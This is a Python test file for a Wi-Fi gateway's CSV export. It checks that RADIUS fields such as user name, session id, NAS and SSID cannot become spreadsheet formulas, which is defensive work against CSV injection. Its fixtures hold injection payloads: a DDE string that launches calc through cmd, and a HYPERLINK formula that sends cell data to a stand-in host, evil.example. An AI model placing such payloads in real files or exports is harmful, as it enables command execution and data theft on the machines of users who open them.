"""The Wi-Fi export's CSV never hands a spreadsheet a formula (OWASP CSV injection).

RADIUS User-Name, Acct-Session-Id, NAS-Identifier and the SSID come from the network as they are. Regression
of a review: a cell starting with TAB or CR (or a space before `=`) was written raw, and a spreadsheet that
trims it runs what follows as a formula.
"""

from __future__ import annotations

import csv
import io
import zipfile
from datetime import UTC, datetime, timedelta

from hypothesis import given, settings
from hypothesis import strategies as st

from gateway.accounts.store import Role
from gateway.wifilog import EventKind, SessionEvent, WifiLogStore
from gateway.wifilog.export import COLUMNS, render_csv
from gateway.wifilog.sessions import Session
from tests.web.conftest import WebEnv, login, post_form

T0 = datetime(2026, 1, 15, 10, 0, tzinfo=UTC)
TRIGGERS = ("=", "+", "-", "@", "\t", "\r", "\n")


def _rows(data: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")))


def _neutral(cell: str) -> bool:
    """A cell no spreadsheet takes for a formula: none of the triggers first, also after leading blanks,
    unless the cell starts with the quote that makes it text."""
    return cell.startswith("'") or not (cell.startswith(TRIGGERS) or cell.lstrip().startswith(TRIGGERS))


async def test_the_export_quotes_cells_starting_with_tab_cr_or_a_blank_and_a_formula(web_env: WebEnv) -> None:
    store = WifiLogStore(web_env.state_dir.parent, retention_months=1)
    store.apply(
        [
            SessionEvent(
                nas="\n@SUM(1+1)",
                session_id="\r=1+cmd|' /C calc'!A0",
                kind=EventKind.START,
                time=T0,
                client_mac="aa:bb:cc:01:02:03",
                user_name='\t=HYPERLINK("http://evil.example/?"&A2,"click")',
                framed_ip="10.0.0.5",
                ssid=" =1+1",
            )
        ]
    )
    assert store.signer  # the signing key, made as the gateway makes it at its start
    store.close()
    web_env.add_user("auditor", Role.WIFI_AUDITOR)
    await login(web_env.client, "auditor")
    response = await post_form(
        web_env.client, "/wifi/export", {"reference": "R-1", "ip": "10.0.0.5"}, token_from="/wifi"
    )
    assert response.status == 200, await response.text()
    archive = zipfile.ZipFile(io.BytesIO(await response.read()))
    name = next(n for n in archive.namelist() if n.endswith(".csv"))
    header, row = _rows(archive.read(name))
    cells = dict(zip(header, row, strict=True))
    assert cells["user_name"] == '\'\t=HYPERLINK("http://evil.example/?"&A2,"click")'
    assert cells["session_id"] == "'\r=1+cmd|' /C calc'!A0"
    assert cells["nas"] == "'\n@SUM(1+1)"
    assert cells["ssid"] == "' =1+1"
    assert cells["client_mac"] == "aa:bb:cc:01:02:03"  # a plain value stays as it is


_text = st.text(st.sampled_from([*TRIGGERS, " ", "\u3000", "'", '"', ",", "a", "1", "あ"]), max_size=8) | st.text(
    max_size=8
)


@st.composite
def _sessions(draw: st.DrawFn) -> Session:
    start = T0 + timedelta(seconds=draw(st.integers(0, 10**6)))
    maybe = st.none() | _text
    return Session(
        nas=draw(_text),
        session_id=draw(_text),
        source=draw(_text),
        start=start,
        last_update=start,
        client_mac=draw(maybe),
        user_name=draw(maybe),
        ap_mac=draw(maybe),
        ssid=draw(maybe),
        framed_ip=draw(maybe),
        terminate_cause=draw(maybe),
        session_time=draw(st.none() | st.integers(-(10**6), 10**6)),
        input_octets=draw(st.none() | st.integers(0, 2**40)),
        output_octets=draw(st.none() | st.integers(0, 2**40)),
    )


@settings(max_examples=300, deadline=None)
@given(st.lists(_sessions(), min_size=1, max_size=4))
def test_no_exported_cell_reads_as_a_formula(sessions: list[Session]) -> None:
    rows = _rows(render_csv(sessions))
    assert rows[0] == list(COLUMNS)
    assert len(rows) == len(sessions) + 1
    for row in rows[1:]:
        for column, cell in zip(COLUMNS, row, strict=True):
            assert _neutral(cell), (column, cell)
